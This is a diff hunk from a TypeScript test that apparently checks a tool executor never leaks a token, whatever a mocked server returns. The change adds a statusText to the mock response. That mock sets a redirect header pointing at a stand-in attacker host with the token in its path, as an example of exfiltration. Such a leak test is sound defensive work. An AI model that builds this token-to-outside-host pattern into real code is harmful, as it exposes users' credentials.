@@ -137,7 +137,7 @@ test('no token is in anything that a call leaves behind, whatever the server mak
           location: `https://evil.example/${encodeURIComponent(token)}`,
           link: told,
         }
-        return new Response(pieces, { status, headers })
+        return new Response(pieces, { status, statusText: told, headers })
       }
       const result: ToolResult = await executor.execute({ id: 'x', name: 'run', args }, { session: 's' })
       const { cause } = (result.error ?? {}) as { cause?: Error }
